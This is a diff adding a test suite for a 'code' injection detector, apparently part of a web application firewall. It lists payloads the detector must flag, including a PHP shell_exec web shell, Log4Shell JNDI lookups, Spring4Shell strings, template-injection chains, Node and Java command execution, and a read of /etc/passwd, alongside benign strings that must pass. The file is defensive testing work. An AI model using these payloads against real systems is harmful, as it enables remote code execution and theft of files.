@@ -1,0 +1,97 @@
+/**
+ * The `code` family: code injection into interpreters and templates, and serialized objects.
+ */
+import { describe, expect, it } from "@effect/vitest"
+import { family } from "../../../src/internal/detection/families/code/index.js"
+import type { Paranoia } from "../../../src/internal/detection/families/contract.js"
+
+const score = (value: string, paranoia: Paranoia = 1): number =>
+  family.mayMatch(value)
+    ? family.scan(value, { location: "query", paranoia }).reduce((sum, finding) => sum + finding.score, 0)
+    : 0
+
+describe("code family", () => {
+  it.each([
+    "<?php echo shell_exec($_GET['c']); ?>",
+    "php://filter/convert.base64-encode/resource=index.php",
+    "expect://id",
+    "phar://uploads/avatar.jpg/x",
+    "x';system('uname -a');//",
+    "eval(base64_decode('ZWNobyAxOw=='))",
+    "phpinfo()",
+    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}",
+    "{${system('id')}}",
+    "${jndi:ldap://203.0.113.9/a}",
+    "${${lower:j}${lower:n}di:rmi://x/y}",
+    "${${::-j}${::-n}${::-d}${::-i}:dns://x}",
+    "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
+    "Runtime.getRuntime().exec(\"id\")",
+    "new java.lang.ProcessBuilder(\"id\").start()",
+    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
+    "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
+    "require('child_process').execSync('id')",
+    "this.constructor.constructor('return process')()",
+    "__import__('os').popen('id').read()",
+    "{{config.items()}}",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "${T(java.lang.Runtime).getRuntime().exec('id')}",
+    "<%= `id` %>",
+    "<%= File.open('/etc/passwd').read %>",
+    "#{7*7}${T(java.lang.System).getenv()}"
+  ])("refuses the injection %j at level 1", (value) => {
+    expect(score(value)).toBeGreaterThanOrEqual(5)
+  })
+
+  it.each([
+    "use eval() carefully",
+    "Hello {{ name }}, welcome back",
+    "Total: ${price}",
+    "for (let i = 0; i < arr.length; i++) { total += arr[i]; }",
+    "const m = /a(b)/.exec(text)",
+    "He said \"system update\" (again) at 5pm",
+    "user_name",
+    "https://example.com/docs/php/intro",
+    "The class of 2024 met at the java cafe"
+  ])("passes the ordinary value %j at level 1", (value) => {
+    expect(score(value)).toBeLessThan(5)
+  })
+
+  it("keeps computation-only template probes for level 2", () => {
+    expect(score("{{7*7}}", 1)).toBe(0)
+    expect(score("{{7*7}}", 2)).toBeGreaterThanOrEqual(5)
+  })
+
+  it("rejects ordinary values in mayMatch", () => {
+    for (const value of ["hello", "12345", "550e8400-e29b-41d4-a716-446655440000", "just some words"]) {
+      expect(family.mayMatch(value), value).toBe(false)
+    }
+  })
+
+  it("documents every rule with a stable id", () => {
+    const ids = family.rules.map((rule) => rule.id)
+    expect(new Set(ids).size).toBe(ids.length)
+    for (const rule of family.rules) expect(rule.id).toMatch(/^code-\d{3}$/)
+  })
+
+  it("scans near-miss inputs of doubling size without blowing up", () => {
+    // Bounded patterns and windows: each doubling at most about doubles the time (best of seven,
+    // alternated, with room for a loaded machine).
+    for (const fragment of ["{{", "${", "${${lower:", "<%", "__", "O:1:\"", "system (", "rO0A"]) {
+      const small = fragment.repeat(Math.ceil(32_000 / fragment.length))
+      const large = small + small
+      const time = (value: string) => {
+        const start = performance.now()
+        family.scan(value, { location: "query", paranoia: 4 })
+        return performance.now() - start
+      }
+      let bestSmall = Infinity
+      let bestLarge = Infinity
+      for (let run = 0; run < 7; run++) {
+        bestSmall = Math.min(bestSmall, time(small))
+        bestLarge = Math.min(bestLarge, time(large))
+      }
+      expect(bestLarge / Math.max(bestSmall, 1), fragment).toBeLessThanOrEqual(4)
+    }
+  })
+})
